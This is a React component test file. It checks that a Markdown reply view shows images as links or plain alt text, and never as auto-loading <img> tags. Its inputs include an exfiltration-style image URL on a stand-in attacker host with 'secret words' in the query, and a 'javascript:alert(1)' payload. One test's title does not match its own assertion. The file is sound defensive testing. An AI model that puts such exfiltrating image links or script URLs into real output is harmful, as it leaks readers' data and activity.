import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { MarkdownView } from './markdown-view';

// A reply's image, rendered as one, would make the browser fetch a remote address with no click
// (telling that address who reads the reply, and when).
describe('images in a reply', () => {
  it('shows a remote image as a link named by its alt text, never as an <img>', () => {
    const { container } = render(<MarkdownView markdown={'See ![the chart](https://evil.example/x.png?q=secret+words) here.'} />);
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByRole('link', { name: 'the chart' });
    expect(link).toHaveAttribute('href', 'https://evil.example/x.png?q=secret+words');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('names the link by its address when the image has no alt text', () => {
    render(<MarkdownView markdown={'![](https://example.com/a.png)'} />);
    expect(screen.getByRole('link', { name: 'https://example.com/a.png' })).toBeInTheDocument();
  });

  it('shows only the alt text for an unsafe or relative-protocol address, and for reference images', () => {
    const markdown = ['![one](javascript:alert(1))', '![two](//evil.example/x.png)', '![three][ref]', '', '[ref]: https://evil.example/y.png'].join('\n');
    const { container } = render(<MarkdownView markdown={markdown} />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText('one')).not.toHaveAttribute('href');
    expect(screen.getByText('two')).not.toHaveAttribute('href');
    expect(screen.getByRole('link', { name: 'three' })).toHaveAttribute('href', 'https://evil.example/y.png');
  });

  it('keeps an image inside a link as the link’s text, with no <img>', () => {
    const { container } = render(<MarkdownView markdown={'[![badge](https://evil.example/b.svg)](https://example.com)'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.textContent).toContain('badge');
  });
});
